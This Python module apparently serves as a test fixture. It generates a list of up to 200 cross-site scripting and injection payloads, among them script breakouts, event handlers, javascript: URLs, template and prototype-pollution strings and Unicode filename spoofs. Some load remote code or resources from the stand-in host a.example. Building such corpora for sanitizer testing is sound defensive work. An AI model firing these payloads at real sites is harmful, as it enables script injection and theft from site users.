"""Texts that run a script, ask a server or forge what is seen, where a page takes text for HTML or for an address."""

from __future__ import annotations

from itertools import product

__all__ = ["ATTACKS"]

_CODES = ("alert(1)", "confirm`1`", "fetch('//a.example')", "document.title='forged'", "import('//a.example/x.js')")
_FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</SCRIPT\t><sCrIpT >{}</script>",
    "<!--<script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '"-{}-"',
    "'-{}-'",
    "\\'-{}//",
    "${{{}}}",
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    '<iframe srcdoc="<script>{}</script>">',
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    "<math><mi xlink:href='javascript:{}'>x",
    "<form><button formaction='javascript:{}'>x",
    "<object data='javascript:{}'>",
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '" onmouseover="{}',
    "' autofocus onfocus='{}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "\u2028{}\u2029",
)
_OTHERS = (
    '<link rel=stylesheet href="//a.example/x.css">',
    '<style>@import "//a.example/x.css";</style>',
    '<img src="//a.example/x.png">',
    '<base href="//a.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "__proto__.polluted",
    "constructor.prototype.polluted",
    "hasOwnProperty",
    "\u202etxt.exe",
    "\u2066<script>alert(1)</script>\u2069",
)

ATTACKS: tuple[str, ...] = (*_OTHERS, *(form.format(code) for form, code in product(_FORMS, _CODES)))[:200]
